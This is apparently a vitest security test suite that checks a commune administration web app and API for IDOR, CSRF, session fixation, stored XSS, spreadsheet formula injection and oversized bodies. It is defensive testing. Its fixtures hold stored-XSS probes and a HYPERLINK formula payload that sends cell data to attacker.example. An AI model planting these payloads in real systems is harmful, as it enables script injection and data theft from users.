// Hostile input on the admin web and the JSON API (issue #8), on the real server. Two communes:
// A (the attacker's) and B (the victim's), B holding one of everything (unit, channel account,
// subscriber group, announcement with a delivery, hand-off, unanswered question, phrasing,
// dossier, survey comment, officer with an API token), every text in it a stored-XSS probe and
// the texts that reach a spreadsheet a formula. The routes are read from the running router, so
// a page, an API route or an export added later is attacked too:
// - IDOR / role escalation: an officer and a unit-bound admin of A call every /admin and /api/v1
//   route with B's ids (under B's path and under their own) and get 403/404 or data of their own,
//   never B's; nothing of B changes;
// - CSRF: every state-changing admin route refuses a request without or with a wrong token;
// - session fixation: the session id before sign-in is not the one after, and stops working;
// - stored XSS: every admin page shows the probes as text (escaped), never as markup, under a
//   policy that forbids inline script;
// - formula injection: every CSV / XLSX export, opened with a CSV reader and exceljs, has no cell
//   a spreadsheet would run;
// - oversized bodies: 413 on every form and JSON route, the dossier import at its own limit.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import ExcelJS from 'exceljs';
import { AnnouncementInput } from '../../src/broadcast/types.js';
import { SESSION_COOKIE } from '../../src/admin/auth/index.js';
import { cookieValue, loginAs, loginForm } from '../helpers/admin-login.js';
import { parseCsv } from '../surveys/rfc4180.js';
import { appRoutes, fillRoute, routeParams, startSecurityServer, type RouteInfo, type SecurityServer } from './harness.js';

let srv: SecurityServer;
const A = { unit: '', officer: { session: '', csrf: '', token: '' }, admin: { session: '', csrf: '', token: '' } };
const PROVINCE = { session: '', csrf: '', token: '' };
const B = {
  unit: 'xa-b-bi-tan-cong',
  officerToken: '',
  ids: { announcement: 0, group: 0, handoff: 0, alias: 0, dossier: 0, user: 0, token: 0, account: 0 },
  dossierCode: '000.00.01.H56-260101-0042',
  procedureCode: '1.001193',
};
const PASSWORD = 'Mật-khẩu-kiểm-thử-2026';

/** A stored-XSS probe; the tag (letters only: digits in citizen text are masked) names its source. */
const xss = (tag: string): string => `<script>alert("${tag}")</script>"><img src=x onerror=alert("${tag}")>`;
const TAGS = ['donvi', 'trangfb', 'nhomtin', 'thongbao', 'noidungtb', 'hosobosung', 'noitra', 'tenthutuc', 'cauhoi', 'gopy', 'bidanh'] as const;
/** Cells a spreadsheet would run; each reaches an export below. */
const FORMULA = '=HYPERLINK("http://attacker.example/?d="&A1,"Bấm vào đây")';
const FORMULAS = [FORMULA, '+SUM(1,1)', '-2+3', '@SUM(1)', '\t=1+1', '\r=1+1'];
/** Text that marks B's data in any answer (escaped or not, a leak is a leak). */
const B_MARKERS = ['alert(&quot;', 'alert("', 'alert(\\"', 'HYPERLINK', 'bi-tan-cong-bi-mat'];

const raw = (method: string, path: string, init: { cookie?: string; token?: string; body?: string | Buffer; type?: string; accept?: string; headers?: Record<string, string> } = {}): Promise<Response> =>
  fetch(`${srv.url}${path}`, {
    method: method.toUpperCase(),
    redirect: 'manual',
    headers: {
      accept: init.accept ?? 'application/json',
      ...(init.cookie ? { cookie: init.cookie } : {}),
      ...(init.token ? { authorization: `Bearer ${init.token}` } : {}),
      ...(init.body !== undefined ? { 'content-type': init.type ?? 'application/x-www-form-urlencoded' } : {}),
      ...init.headers,
    },
    ...(init.body !== undefined ? { body: init.body } : {}),
  });

async function csrfOf(cookie: string): Promise<string> {
  const page = await (await raw('GET', '/admin/tokens', { cookie, accept: 'text/html' })).text();
  const token = /name="_csrf" value="([^"]+)"/.exec(page)?.[1];
  if (!token) throw new Error('no CSRF token on /admin/tokens');
  return token;
}

async function staff(username: string, role: 'admin' | 'officer' | 'reporter', unitId: string | null): Promise<{ id: number; session: string; csrf: string; token: string; tokenId: number }> {
  const s = srv.running.services;
  const created = await s.staff.create({ username, role, unitId });
  if (!created) throw new Error(`could not create ${username}`);
  await s.staff.setPassword(created.user.id, PASSWORD);
  const t = await s.staff.createApiToken(created.user.id, 'kiểm thử');
  const session = await loginAs(srv.url, username, PASSWORD);
  return { id: created.user.id, session, csrf: await csrfOf(session), token: t.token, tokenId: t.id };
}

async function api(method: string, path: string, token: string, body: unknown, headers: Record<string, string> = {}): Promise<Record<string, unknown>> {
  const res = await raw(method, path, { token, body: JSON.stringify(body), type: 'application/json', headers });
  const json = (await res.json()) as Record<string, unknown>;
  if (res.status >= 300) throw new Error(`${method} ${path}: ${res.status} ${JSON.stringify(json)}`);
  return json;
}

beforeAll(async () => {
  srv = await startSecurityServer();
  const s = srv.running.services;
  A.unit = s.defaultUnitId;
  await s.units.upsert([
    {
      id: B.unit,
      name: `UBND xã B ${xss('donvi')}`,
      province: null,
      address: null,
      phone: null,
      email: null,
      hours: null,
      portalUrl: null,
      website: null,
      procedureCodes: null,
    },
  ]);
  await s.liveUnits.changed(B.unit);
  await s.liveUnits.load();

  const province = await staff('sec.tinh', 'admin', null);
  Object.assign(PROVINCE, { session: province.session, csrf: province.csrf, token: province.token });
  const officerA = await staff('sec.canbo.a', 'officer', A.unit);
  A.officer = { session: officerA.session, csrf: officerA.csrf, token: officerA.token };
  const adminA = await staff('sec.quantri.a', 'admin', A.unit);
  A.admin = { session: adminA.session, csrf: adminA.csrf, token: adminA.token };
  const officerB = await staff('sec.canbo.b', 'officer', B.unit);
  B.officerToken = officerB.token;
  B.ids.user = officerB.id;
  B.ids.token = officerB.tokenId;

  // B's data, entered the ways officers and citizens enter it.
  const account = await s.accounts.upsert({ unitId: B.unit, platform: 'messenger', externalId: '106000000000888', name: `Trang B ${xss('trangfb')}`, secrets: { pageAccessToken: 'EAAG-b' } });
  await s.accounts.setStatus(account.id, 'active', null);
  B.ids.account = account.id;
  const group = await api('POST', `/api/v1/units/${B.unit}/groups`, B.officerToken, { kind: 'topic', name: `Nhóm ${xss('nhomtin')}` });
  B.ids.group = Number(group.id);
  const ann = await s.broadcasts.create(
    B.unit,
    AnnouncementInput.parse({ title: `${FORMULA} ${xss('thongbao')}`.slice(0, 120), body: `Nội dung ${xss('noidungtb')}`, groupIds: [B.ids.group], channels: ['messenger'] }),
    officerB.id,
  );
  B.ids.announcement = ann.id;
  // Deliveries whose recorded reasons are what a platform could send back.
  for (const [i, reason] of FORMULAS.entries()) {
    const contactId = await s.subscriptions.ensureContact(account.id, `71000000000${i}`, new Date());
    await s.broadcasts.addDeliveries(ann.id, [{ contactId, accountId: account.id, platform: 'messenger' }]);
    await s.broadcasts.finish(ann.id, contactId, { status: 'failed', reason }, new Date());
  }
  const dossier = await api(
    'POST',
    `/api/v1/units/${B.unit}/dossiers`,
    B.officerToken,
    {
      code: B.dossierCode,
      procedureCode: B.procedureCode,
      procedureName: `${FORMULA} ${xss('tenthutuc')}`,
      receivedAt: new Date().toISOString(),
      status: 'needs_supplement',
      missing: `Bổ sung ${xss('hosobosung')}`,
      pickupPlace: `Nơi trả ${xss('noitra')}`,
      phoneLast4: '2468',
    },
    { 'idempotency-key': 'sec-dossier-b' },
  );
  B.ids.dossier = Number((dossier.dossier as { id: number }).id);
  const alias = await api('POST', `/api/v1/units/${B.unit}/aliases`, B.officerToken, { text: `giấy khai sinh cho con bi-tan-cong-bi-mat ${xss('bidanh')}`, code: B.procedureCode });
  B.ids.alias = Number(alias.id);
  // A citizen of B: an unanswerable question, then "gặp cán bộ" (a hand-off with the transcript).
  const chat = (text: string) =>
    raw('POST', '/api/chat', { body: JSON.stringify({ sessionId: 'sec-citizen-of-b-0001', unit: B.unit, text }), type: 'application/json' }).then((r) => r.json());
  await chat(`bi-tan-cong-bi-mat ${xss('cauhoi')}`);
  await chat('gặp cán bộ');
  B.ids.handoff = (await s.handoffs.open(B.unit)).at(-1)?.id ?? 0;
  // A satisfaction survey answered with a comment.
  const started = await s.surveys.start({ definitionId: 'sipas', unitId: B.unit, channel: 'web', platformUserId: 'sec-citizen-of-b-0001', occasion: { kind: 'period', period: quarterNow() }, at: new Date() });
  await s.surveys.comment(started.response.id, 'comment', `${FORMULA} ${xss('gopy')}`);
  await s.surveys.complete(started.response.id);
}, 120_000);

afterAll(async () => {
  await srv?.stop();
});

function quarterNow(): string {
  const d = new Date(Date.now() + 7 * 3600_000);
  return `${d.getUTCFullYear()}-Q${Math.floor(d.getUTCMonth() / 3) + 1}`;
}

/** What of B an attacker could change, read straight from the repositories. */
async function snapshotOfB(): Promise<unknown> {
  const s = srv.running.services;
  const officer = await s.staff.findById(B.ids.user);
  return {
    unit: (await s.units.get(B.unit))?.name,
    account: await s.accounts.get(B.ids.account).then((a) => a && { status: a.status, unit: a.unitId, name: a.name }),
    users: (await s.staff.list(B.unit)).map((u) => `${u.username}:${u.role}:${String(u.disabled)}`),
    group: await s.subscriptions.getGroup(B.unit, B.ids.group).then((g) => g && { name: g.name, active: g.active, kind: g.kind }),
    announcement: (await s.broadcasts.get(B.ids.announcement))?.status,
    deliveries: await s.broadcasts.counts(B.ids.announcement),
    handoffs: (await s.handoffs.open(B.unit)).map((h) => h.id),
    aliases: (await s.aliases.list(B.unit)).map((a) => a.id),
    dossier: await s.dossiers.getById(B.unit, B.ids.dossier).then((d) => d && { status: d.status, code: d.code }),
    officer: officer && { disabled: officer.disabled, mustChange: officer.mustChangePassword, role: officer.role, unit: officer.unitId },
    token: (await s.staff.findUserByToken(B.officerToken))?.id,
    surveys: await s.db.query('SELECT id, status FROM survey_responses WHERE unit_id = $1 ORDER BY id', [B.unit]),
  };
}

// --- the routes, and B's ids for their parameters -------------------------------------------------

let ROUTES: RouteInfo[] = [];
beforeAll(() => {
  ROUTES = appRoutes(srv.running);
});

const isAdminOrApi = (r: RouteInfo): boolean => r.path.startsWith('/admin') || r.path.startsWith('/api/v1');
const stateChanging = (r: RouteInfo): boolean => !['get', 'head', 'options'].includes(r.method);

/** The kind of object a parameter names, from the path segment before it. */
function candidates(route: string, param: string): string[] {
  const ids = B.ids;
  const seg = new RegExp(`/([a-z-]+)/:${param}\\b`).exec(route)?.[1] ?? '';
  const byKind: Record<string, string[]> = {
    announcements: [String(ids.announcement)],
    groups: [String(ids.group)],
    handoffs: [String(ids.handoff)],
    aliases: [String(ids.alias)],
    dossiers: param === 'code' ? [B.dossierCode] : [String(ids.dossier)],
    users: [String(ids.user)],
    tokens: [String(ids.token)],
    accounts: [String(ids.account)],
    catalogue: [B.procedureCode],
  };
  // A parameter of a kind not known here (a route added later) is tried with every id of B.
  return byKind[seg] ?? [...new Set([...Object.values(ids).map(String), B.dossierCode, B.procedureCode])];
}

/**
 * The ways to fill a route's parameters with B's ids, the unit being `unit`: every combination
 * of the candidates, except that parameters of unknown kinds take B's ids side by side (the
 * queue dashboard's :queueName/:jobId would otherwise multiply to hundreds of requests).
 */
function fillings(route: string, unit: string): string[] {
  let out: Array<Record<string, string>> = [{}];
  const unknown: string[] = [];
  for (const p of routeParams(route)) {
    if (p !== 'unitId' && !new RegExp(`/(announcements|groups|handoffs|aliases|dossiers|users|tokens|accounts|catalogue)/:${p}\\b`).test(route)) {
      unknown.push(p);
      continue;
    }
    const values = p === 'unitId' ? [unit] : candidates(route, p);
    out = out.flatMap((o) => values.map((v) => ({ ...o, [p]: v })));
  }
  if (unknown.length > 0) {
    const values = candidates(route, unknown[0] ?? '');
    out = out.flatMap((o) => values.map((v) => ({ ...o, ...Object.fromEntries(unknown.map((p) => [p, v])) })));
  }
  return [...new Set(out.map((o) => fillRoute(route, o)))];
}

/**
 * A form body that gets past the validation of the admin forms we have, aimed at B's objects
 * (at most 20 fields: the admin form parser refuses more, with 413).
 */
function attackForm(csrf: string): string {
  return new URLSearchParams({
    _csrf: csrf,
    name: 'Đổi tên',
    kind: 'topic',
    title: 'Tiêu đề',
    body: 'Nội dung',
    groupIds: String(B.ids.group),
    channels: 'messenger',
    status: 'returned',
    resolution: 'answered',
    text: 'giấy khai sinh',
    code: B.procedureCode,
    unitId: B.unit,
    username: 'sec.tao.moi',
    role: 'admin',
    pageId: '106000000000888', // B's Page
    pageName: 'Trang của A',
    pageAccessToken: 'EAAG-x',
  }).toString();
}

/** The JSON an API route takes, aimed at B's objects ({} for a route not known here). */
function attackJson(route: string, method: string): unknown {
  if (route.endsWith('/close')) return { resolution: 'answered' };
  if (route.endsWith('/aliases')) return { text: 'giấy khai sinh cho con', code: B.procedureCode };
  if (route.endsWith('/groups/:id')) return { name: 'Đổi tên', active: false };
  if (route.endsWith('/groups')) return { kind: 'topic', name: 'Nhóm mới' };
  if (route.endsWith('/dossiers/:code')) return { status: 'returned', at: new Date().toISOString() };
  if (route.endsWith('/dossiers')) return { code: B.dossierCode, procedureCode: B.procedureCode, receivedAt: new Date().toISOString(), status: 'withdrawn' };
  if (route.endsWith('/announcements') && method === 'post') return { title: 'x', body: 'x', groupIds: [B.ids.group], channels: ['messenger'] };
  return {};
}

function leaks(body: string): string[] {
  return B_MARKERS.filter((m) => body.includes(m));
}

describe('role escalation and IDOR across units', () => {
  it('an officer and a unit admin of A get 403/404 or their own data on every route with B\'s ids, and B is untouched', async () => {
    const before = await snapshotOfB();
    const routes = ROUTES.filter(isAdminOrApi).filter((r) => !['/admin/login', '/admin/logout', '/admin/password'].includes(r.path));
    expect(routes.length).toBeGreaterThan(60);
    const findings: string[] = [];
    let tried = 0;
    for (const who of [A.officer, A.admin]) {
      for (const r of routes) {
        const viaApi = r.path.startsWith('/api/');
        const targets = r.path.includes(':unitId') ? [...fillings(r.path, B.unit).map((p) => ({ p, own: false })), ...fillings(r.path, A.unit).map((p) => ({ p, own: true }))] : fillings(r.path, '').map((p) => ({ p, own: true }));
        for (const { p, own } of targets) {
          const body = !stateChanging(r) ? undefined : viaApi ? JSON.stringify(attackJson(r.path, r.method)) : attackForm(who.csrf);
          const send = (b: string | undefined) =>
            raw(r.method, p, {
              ...(viaApi ? { token: who.token } : { cookie: who.session }),
              ...(b !== undefined ? { body: b, type: viaApi ? 'application/json' : 'application/x-www-form-urlencoded' } : {}),
              headers: { 'idempotency-key': `sec-idor-${tried}` },
            });
          let res = await send(body);
          // A form with fewer fields for a route that takes fewer (its parser refuses more with 413).
          if (res.status === 413 && !viaApi) res = await send(new URLSearchParams({ _csrf: who.csrf, text: 'giấy khai sinh' }).toString());
          tried++;
          const text = await res.text();
          const label = `${r.method.toUpperCase()} ${p} as ${who === A.officer ? 'officer' : 'unit admin'} of A → ${res.status}`;
          if (res.status >= 500) findings.push(`${label}: server error`);
          // Under B's path: refused outright, whatever the ids.
          if (!own && res.status !== 403 && res.status !== 404) findings.push(`${label}: not refused`);
          // Anywhere: nothing of B in the answer.
          const leaked = leaks(text);
          if (leaked.length > 0) findings.push(`${label}: shows B's data (${leaked.join(', ')})`);
        }
      }
    }
    expect(tried).toBeGreaterThan(300);
    expect(findings).toEqual([]);
    expect(await snapshotOfB()).toEqual(before);
  });

  it('pages listing units, users, tokens or audit entries show A\'s only', async () => {
    for (const path of ['/admin', '/admin/units', '/admin/users', '/admin/tokens', '/admin/audit', '/admin/units/' + A.unit]) {
      for (const who of [A.officer, A.admin]) {
        const res = await raw('GET', path, { cookie: who.session, accept: 'text/html' });
        const text = await res.text();
        expect(text.includes(B.unit) || leaks(text).length > 0, `${path} → ${res.status} names unit B`).toBe(false);
      }
    }
    const units = (await (await raw('GET', '/api/v1/units', { token: A.admin.token })).json()) as { units: Array<{ id: string }> };
    expect(units.units.map((u) => u.id)).toEqual([A.unit]);
  });
});

describe('CSRF', () => {
  it('every state-changing admin route refuses a request without the session\'s token, or with another session\'s', async () => {
    const before = await snapshotOfB();
    const routes = ROUTES.filter((r) => r.path.startsWith('/admin') && stateChanging(r));
    expect(routes.length).toBeGreaterThan(25);
    const findings: string[] = [];
    for (const r of routes) {
      const path = fillings(r.path, B.unit)[0] ?? r.path;
      const form = (csrf: string | undefined) => new URLSearchParams({ ...(csrf !== undefined ? { _csrf: csrf } : {}), name: 'Đổi tên', status: 'returned' }).toString();
      const attempts: Array<[string, { body: string; headers?: Record<string, string> }]> = [
        ['no token', { body: form(undefined) }],
        ['an empty token', { body: form('') }],
        ['another user\'s token', { body: form(A.officer.csrf) }],
        ['a made-up header', { body: form(undefined), headers: { 'x-csrf-token': 'x'.repeat(43) } }],
      ];
      for (const [what, attempt] of attempts) {
        const res = await raw(r.method, path, { cookie: PROVINCE.session, body: attempt.body, ...(attempt.headers ? { headers: attempt.headers } : {}) });
        const text = await res.text();
        const refused = res.status === 403 && (r.path === '/admin/login' || text.includes('CSRF_INVALID'));
        if (!refused) findings.push(`${r.method.toUpperCase()} ${path} with ${what} → ${res.status} ${text.slice(0, 120)}`);
      }
    }
    expect(findings).toEqual([]);
    expect(await snapshotOfB()).toEqual(before);
    // The session survived every attempt (sign-out included) and the right token still works.
    expect((await raw('GET', '/admin/tokens', { cookie: PROVINCE.session, accept: 'text/html' })).status).toBe(200);
  });

  it('the sign-in form refuses a post without its own cookie and token (login CSRF)', async () => {
    const form = await loginForm(srv.url);
    const post = (cookie: string, csrf: string, origin?: string) =>
      raw('POST', '/admin/login', { cookie, body: new URLSearchParams({ username: 'sec.tinh', password: PASSWORD, _csrf: csrf }).toString(), accept: 'text/html', ...(origin ? { headers: { origin } } : {}) });
    for (const res of [await post('', form.csrf), await post(form.cookie, ''), await post(form.cookie, 'x'.repeat(32)), await post(form.cookie, form.csrf, 'https://attacker.example')]) {
      expect(res.status).toBe(403);
      expect(cookieValue(res, SESSION_COOKIE)).toBe('');
    }
  });
});

describe('session fixation', () => {
  it('a session id held before sign-in is not the one after, and no longer works', async () => {
    // The attacker's own live session, planted in the victim's browser before the victim signs in.
    const planted = await loginAs(srv.url, 'sec.canbo.b', PASSWORD);
    const form = await loginForm(srv.url);
    const res = await raw('POST', '/admin/login', {
      cookie: `${form.cookie}; ${planted}`,
      body: new URLSearchParams({ username: 'sec.tinh', password: PASSWORD, _csrf: form.csrf }).toString(),
      accept: 'text/html',
    });
    expect(res.status).toBe(303);
    const issued = cookieValue(res, SESSION_COOKIE);
    expect(issued).not.toBe('');
    expect(issued).not.toBe(planted);
    const setCookie = res.headers.getSetCookie().find((c) => c.startsWith(`${SESSION_COOKIE}=`)) ?? '';
    expect(setCookie).toMatch(/HttpOnly/i);
    expect(setCookie).toMatch(/SameSite=(Lax|Strict)/i);
    expect(setCookie).toMatch(/Path=\/admin/);
    // The planted id is dead: it opens nothing, certainly not the province admin's pages.
    const withPlanted = await raw('GET', '/admin/users', { cookie: planted, accept: 'text/html' });
    expect(withPlanted.status).toBe(302);
    expect(withPlanted.headers.get('location')).toBe('/admin/login');
    expect((await raw('GET', '/admin/users', { cookie: issued, accept: 'text/html' })).status).toBe(200);
    // An id the attacker made up is not adopted either.
    const madeUp = `${SESSION_COOKIE}=${'A'.repeat(43)}`;
    const form2 = await loginForm(srv.url);
    const res2 = await raw('POST', '/admin/login', {
      cookie: `${form2.cookie}; ${madeUp}`,
      body: new URLSearchParams({ username: 'sec.tinh', password: PASSWORD, _csrf: form2.csrf }).toString(),
      accept: 'text/html',
    });
    expect(cookieValue(res2, SESSION_COOKIE)).not.toBe(madeUp);
    expect((await raw('GET', '/admin/users', { cookie: madeUp, accept: 'text/html' })).status).toBe(302);
  });

  it('signing out ends the session on the server, not only in the browser', async () => {
    const session = await loginAs(srv.url, 'sec.canbo.b', PASSWORD);
    const csrf = await csrfOf(session);
    expect((await raw('POST', '/admin/logout', { cookie: session, body: new URLSearchParams({ _csrf: csrf }).toString() })).status).toBe(303);
    expect((await raw('GET', '/admin/tokens', { cookie: session, accept: 'text/html' })).status).toBe(302);
  });
});

describe('stored XSS', () => {
  it('every admin page shows officers\' and citizens\' text as text, under a policy without inline script', async () => {
    const pages = ROUTES.filter((r) => r.method === 'get' && r.path.startsWith('/admin') && !r.path.startsWith('/admin/queues') && !/\.(csv|xlsx)$/.test(r.path));
    const findings: string[] = [];
    const shown = new Set<string>();
    const periods = ['', `?period=${quarterNow()}&survey=sipas`];
    for (const r of pages) {
      for (const path of fillings(r.path, B.unit)) {
        for (const q of r.path.includes('surveys') || r.path.includes('report') ? periods : ['']) {
          const res = await raw('GET', path + q, { cookie: PROVINCE.session, accept: 'text/html' });
          const text = await res.text();
          if (res.status >= 500) findings.push(`${path}${q} → ${res.status}`);
          if (res.status !== 200 || !(res.headers.get('content-type') ?? '').includes('html')) continue;
          if (/<script>alert\(|<img src=x onerror/i.test(text)) findings.push(`${path}${q}: a probe is rendered as markup`);
          const csp = res.headers.get('content-security-policy') ?? '';
          const scriptSrc = /script-src ([^;]+)/.exec(csp)?.[1] ?? /default-src ([^;]+)/.exec(csp)?.[1] ?? '';
          if (!scriptSrc || scriptSrc.includes("'unsafe-inline'") || scriptSrc.includes('*')) findings.push(`${path}${q}: no policy against inline script (${csp || 'none'})`);
          for (const tag of TAGS) if (new RegExp(`&lt;script&gt;alert\\((?:&quot;|&#34;|&#x22;)${tag}`).test(text)) shown.add(tag);
        }
      }
    }
    expect(findings).toEqual([]);
    // Each probe was shown somewhere (escaped): the pages really display these texts.
    expect([...TAGS].filter((t) => !shown.has(t))).toEqual([]);
  });
});

describe('formula injection', () => {
  const DANGEROUS = /^[=+\-@\t\r]/;

  it('every CSV and XLSX export, admin and API, has no cell a spreadsheet would run', async () => {
    // Any download: a .csv / .xlsx route, or one named "export" (read by its content type).
    const exports = ROUTES.filter((r) => r.method === 'get' && /\.(csv|xlsx)$|\/export\b/i.test(r.path));
    expect(exports.length).toBeGreaterThanOrEqual(8);
    const findings: string[] = [];
    const carried = new Map<string, number>();
    for (const r of exports) {
      const viaApi = r.path.startsWith('/api/');
      for (const path of fillings(r.path, B.unit)) {
        const url = `${path}?period=${quarterNow()}&survey=sipas`;
        const res = await raw('GET', url, viaApi ? { token: PROVINCE.token } : { cookie: PROVINCE.session });
        if (res.status !== 200) {
          findings.push(`${url} → ${res.status}`);
          continue;
        }
        const cells: Array<{ where: string; value: string; formula: boolean }> = [];
        const type = res.headers.get('content-type') ?? '';
        const csv = type.includes('csv');
        if (!csv && !type.includes('spreadsheetml')) findings.push(`${url}: neither CSV nor XLSX (${type})`);
        if (csv) {
          const text = (await res.text()).replace(/^\ufeff/, '');
          parseCsv(text).forEach((row, i) => row.forEach((value, j) => cells.push({ where: `${url} r${i + 1}c${j + 1}`, value, formula: false })));
        } else {
          const wb = new ExcelJS.Workbook();
          await wb.xlsx.load(await res.arrayBuffer());
          wb.eachSheet((sheet) =>
            sheet.eachRow((row, i) =>
              row.eachCell((cell, j) => {
                const formula = cell.type === ExcelJS.ValueType.Formula || cell.formula !== undefined;
                cells.push({ where: `${url} ${sheet.name}!r${i}c${j}`, value: typeof cell.value === 'string' ? cell.value : (cell.text ?? ''), formula });
              }),
            ),
          );
        }
        for (const c of cells) {
          if (c.formula) findings.push(`${c.where}: a formula cell`);
          // In a CSV a text starting like a formula must come out with a leading apostrophe; an
          // XLSX string cell is never evaluated (no formula cells is checked above).
          if (csv && DANGEROUS.test(c.value)) findings.push(`${c.where}: ${JSON.stringify(c.value.slice(0, 40))} would run`);
          if (c.value.includes('HYPERLINK')) carried.set(r.path, (carried.get(r.path) ?? 0) + 1);
        }
      }
    }
    expect(findings).toEqual([]);
    // The hostile texts did reach the exports that carry free text (so the check above bit).
    for (const p of ['/admin/units/:unitId/announcements/:id/report.xlsx', '/admin/units/:unitId/surveys/raw.csv', '/admin/units/:unitId/dossiers/report.csv']) {
      expect(carried.get(p) ?? 0, p).toBeGreaterThan(0);
    }
  });
});

describe('oversized bodies', () => {
  it('get 413 on every route that takes a body (forms, JSON, webhooks, chat); the dossier import has its own, larger limit', async () => {
    const findings: string[] = [];
    const big = 'a'.repeat(200 * 1024);
    const bodyRoutes = ROUTES.filter((x) => ['post', 'put', 'patch'].includes(x.method));
    // Public ones (the webhooks, the chat API, any added later): 2 MB of JSON, no credentials.
    for (const r of bodyRoutes.filter((x) => !isAdminOrApi(x))) {
      const path = fillings(r.path, A.unit)[0] ?? r.path;
      const res = await raw(r.method, path, { body: JSON.stringify({ pad: 'a'.repeat(2 * 1024 * 1024) }), type: 'application/json' });
      if (res.status !== 413) findings.push(`${r.method.toUpperCase()} ${path} → ${res.status}`);
    }
    expect(bodyRoutes.filter((x) => !isAdminOrApi(x)).map((x) => x.path)).toEqual(expect.arrayContaining(['/webhooks/messenger', '/webhooks/zalo', '/api/chat']));
    for (const r of bodyRoutes.filter(isAdminOrApi)) {
      const path = fillings(r.path, A.unit)[0] ?? r.path;
      const viaApi = r.path.startsWith('/api/');
      const isImport = r.path.endsWith('/dossiers/import');
      const body = viaApi
        ? JSON.stringify({ text: big })
        : isImport
          ? `_csrf=${encodeURIComponent(PROVINCE.csrf)}&text=${'a'.repeat(5 * 1024 * 1024 + 100 * 1024)}`
          : `_csrf=${encodeURIComponent(PROVINCE.csrf)}&name=${big}`;
      const res = await raw(r.method, path, viaApi ? { token: PROVINCE.token, body, type: 'application/json' } : { cookie: PROVINCE.session, body });
      if (res.status !== 413) findings.push(`${r.method.toUpperCase()} ${path} → ${res.status}`);
    }
    // The import as a file upload, over its limit.
    const boundary = 'sec-boundary-1234';
    const upload = Buffer.concat([
      Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="_csrf"\r\n\r\n${PROVINCE.csrf}\r\n--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="a.csv"\r\nContent-Type: text/csv\r\n\r\n`),
      Buffer.alloc(5 * 1024 * 1024 + 100 * 1024, 0x61),
      Buffer.from(`\r\n--${boundary}--\r\n`),
    ]);
    const imp = await raw('POST', `/admin/units/${A.unit}/dossiers/import`, { cookie: PROVINCE.session, body: upload, type: `multipart/form-data; boundary=${boundary}` });
    if (imp.status !== 413) findings.push(`multipart import → ${imp.status}`);
    expect(findings).toEqual([]);
  });
});
